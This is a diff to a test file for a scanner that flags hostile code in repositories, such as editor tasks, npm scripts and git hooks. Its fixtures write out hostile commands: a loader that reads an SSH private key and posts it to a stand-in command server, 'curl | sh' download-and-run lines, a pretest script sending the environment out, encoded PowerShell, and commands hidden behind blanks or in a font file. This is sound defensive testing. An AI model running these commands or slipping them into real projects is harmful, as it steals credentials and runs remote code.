@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { verdictsOn, type RepositoryTexts } from '../../../support/repository.js';
+import { judgeRepository, verdictsOn, type RepositoryTexts } from '../../../support/repository.js';
 
 /** What fetches a text and runs it: nothing of it leads anywhere. */
 const LOADER = `
@@ -13,6 +13,9 @@ const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
 const req = https.request({ hostname: 'c2.example.invalid', path: '/u', method: 'POST' });
 req.end(key);
 `;
+
+/** `IEX (New-Object …` as PowerShell takes it. */
+const ENCODED = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA';
 
 function task(given: object): RepositoryTexts {
   const tasks = [{ label: 'env', type: 'shell', runOptions: { runOn: 'folderOpen' }, ...given }];
@@ -78,7 +81,7 @@ const CASES: readonly (readonly [what: string, files: RepositoryTexts, verdicts:
       'server/index.js': `require('./config/load');`,
       'server/config/load.js': LOADER,
     },
-    ['critical download-and-run .vscode/tasks.json#env'],
+    ['critical download-and-run .vscode/tasks.json#env', 'high download-and-run package.json#watch'],
   ],
   [
     'the one of two tasks that does harm',
@@ -232,6 +235,62 @@ const CASES: readonly (readonly [what: string, files: RepositoryTexts, verdicts:
     { 'lefthook.yml': 'pre-commit:\n  jobs:\n    - run: curl -s https://l.example.invalid/x | sh\n' },
     ['critical download-and-run lefthook.yml#run 1'],
   ],
+  [
+    'a server of a task for applicants, one file of which fetches what it runs',
+    {
+      'package.json': { name: 'task', scripts: { start: 'node server.js', eject: 'react-scripts eject' } },
+      'server.js': `const app = require('express')();\nrequire('./middlewares/error').init(app);\napp.listen(3000);\n`,
+      'middlewares/error.js': `${LOADER}\nexports.init = (app) => app.use((error, req, res, next) => next());\n`,
+    },
+    ['high download-and-run package.json#start'],
+  ],
+  [
+    'the same behind scripts that run each other, in a part of the repository',
+    {
+      'server/package.json': {
+        scripts: { dev: 'concurrently "npm run server" "vite"', server: 'nodemon src/index.js' },
+      },
+      'server/src/index.js': `require('./utils/logger');`,
+      'server/src/utils/logger.js': LOADER,
+    },
+    ['high download-and-run server/package.json#server'],
+  ],
+  [
+    'tests that read keys',
+    { 'package.json': { scripts: { test: 'node test.js' } }, 'test.js': STEALER },
+    ['high data-exfiltration package.json#test'],
+  ],
+  [
+    'a start that fetches a program first',
+    { 'package.json': { scripts: { start: 'curl -fsSL https://d.example.invalid/i.sh | sh && node server.js' } } },
+    ['high download-and-run package.json#start'],
+  ],
+  [
+    'a build that hides a command of Windows, encoded',
+    { 'package.json': { scripts: { 'build:client': `powershell -w hidden -enc ${ENCODED}` } } },
+    ['high decoded-code package.json#build:client', 'high install-command package.json#build:client'],
+  ],
+  [
+    'what runs before the tests and hands out the environment',
+    { 'package.json': { scripts: { pretest: 'curl -d "$(env)" https://c2.example.invalid', test: 'jest' } } },
+    ['high data-exfiltration package.json#pretest', 'high install-command package.json#pretest'],
+  ],
+  [
+    'a start with a second program behind hundreds of blanks',
+    {
+      'package.json': { scripts: { start: `node server.js${' '.repeat(300)}& node .vscode/.hidden.js` } },
+      '.vscode/.hidden.js': LOADER,
+    },
+    ['high hidden-code package.json#start', 'high download-and-run package.json#start'],
+  ],
+  [
+    'a build that runs a font',
+    {
+      'package.json': { scripts: { build: 'node public/fonts/fa-brands-400.woff2 && vite build' } },
+      'public/fonts/fa-brands-400.woff2': LOADER,
+    },
+    ['high disguised-code package.json#build', 'high download-and-run package.json#build'],
+  ],
 ];
 
 describe('hostile repositories', () => {
@@ -240,4 +299,26 @@ describe('hostile repositories', () => {
       assert.deepEqual(await verdictsOn(files), verdicts);
     });
   }
+
+  it('says of what somebody runs by its name that it runs then', async () => {
+    const scripts = { start: 'curl -fsSL https://d.example.invalid/i.sh | sh' };
+    const { hooks } = await judgeRepository({ 'package.json': { scripts } });
+    assert.match(
+      hooks[0]?.findings[0]?.message ?? '',
+      /^The script start downloads .* when somebody runs it by its name$/,
+    );
+  });
+
+  it('keeps what runs by itself where a workspace has hundreds of scripts', async () => {
+    const many = Object.fromEntries(
+      Array.from({ length: 60 }, (_, index) => [
+        `packages/p${index}/package.json`,
+        { scripts: { start: 'node .', dev: 'vite', test: 'vitest', build: 'tsc' } },
+      ]),
+    );
+    const last = { 'packages/z/package.json': { scripts: { postinstall: 'curl https://x.example.invalid | sh' } } };
+    assert.deepEqual(await verdictsOn({ ...many, ...last }), [
+      'critical download-and-run packages/z/package.json#postinstall',
+    ]);
+  });
 });
